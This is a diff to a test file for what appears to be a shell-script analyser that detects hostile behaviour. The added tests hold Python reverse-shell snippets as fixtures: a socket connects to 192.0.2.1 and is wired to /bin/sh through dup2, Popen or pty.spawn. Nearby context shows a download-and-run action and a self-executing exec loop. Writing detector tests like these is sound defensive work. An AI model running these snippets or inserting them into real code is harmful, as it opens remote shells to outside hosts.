@@ -127,10 +127,38 @@ test('dozens of layers of decode-and-run are followed to the innermost', () => {
   assert.equal(actions.at(-1), 'run /tmp/n (sh) <download:http://192.0.2.3/n>');
 });
 
-test('code whose layers have no end is left with what was found', () => {
+test('code that runs itself is left with what was found', () => {
   const { actions, limitsMet } = evaluateShell(parseShell(Buffer.from(`python3 -c 'x="exec(x)"; exec(x)'`)), {});
   assert.ok(actions.length >= 1);
   assert.deepEqual(limitsMet, []);
+});
+
+test('more layers than anybody follows are told', () => {
+  const limits = (layers: number): readonly string[] => {
+    const script = `python3 - <<'E'\n${wrapped('import os', layers)}\nE`;
+    return evaluateShell(parseShell(Buffer.from(script)), { limits: { steps: 1_000_000 } }).limitsMet;
+  };
+  assert.deepEqual(limits(130), ['depth']);
+  assert.deepEqual(limits(60), []);
+});
+
+test('a connection gives a shell only where a shell stands beside it and is given to it', () => {
+  const connects = (code: string): string | undefined =>
+    actionsOf(
+      `python3 - <<'E'\nimport socket, os, subprocess\ns = socket.socket()\ns.connect(('192.0.2.1', 99))\n${code}\nE`,
+    ).at(-1);
+  assert.equal(
+    connects('os.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])'),
+    'connect python to 192.0.2.1:99 SHELL',
+  );
+  assert.equal(connects('p = subprocess.Popen("sh", stdin=s)'), 'connect python to 192.0.2.1:99 SHELL');
+  assert.equal(connects('import pty; pty.spawn("sh")'), 'connect python to 192.0.2.1:99 SHELL');
+  assert.equal(connects('text = "#!/bin/bash"\nos.dup2(s.fileno(), 0)'), 'connect python to 192.0.2.1:99');
+  assert.equal(connects('shell = "/bin/sh"'), 'connect python to 192.0.2.1:99');
+  assert.equal(
+    connects(`${'a = 1\n'.repeat(1000)}os.dup2(s.fileno(), 0)\nx = "/bin/sh"`),
+    'connect python to 192.0.2.1:99',
+  );
 });
 
 describe('hostile code ends soon', () => {
